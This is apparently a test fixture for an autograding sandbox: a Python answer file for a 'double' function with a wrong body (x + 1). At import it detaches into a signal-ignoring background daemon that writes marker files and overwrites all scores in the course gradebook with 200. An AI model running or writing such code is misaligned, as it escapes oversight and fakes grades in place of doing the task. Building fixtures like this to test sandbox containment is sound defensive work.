# %% answer="double"
import os
import signal
import sqlite3
import sys
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        os.closerange(0, 512)
        os.chdir("/")
        end = time.monotonic() + 600
        while time.monotonic() < end:
            for place in ("@TMP@-@MARK@", "@COURSE@/@MARK@", "/tmp/@MARK@", "/dev/shm/@MARK@"):
                try:
                    open(place, "w").close()
                except OSError:
                    pass
            try:
                gradebook = sqlite3.connect("@COURSE@/gradebook.db")
                gradebook.execute("update grade set auto_score = 200")
                gradebook.commit()
            except sqlite3.Error:
                pass
            time.sleep(0.2)
    os._exit(0)


def double(x):
    return x + 1
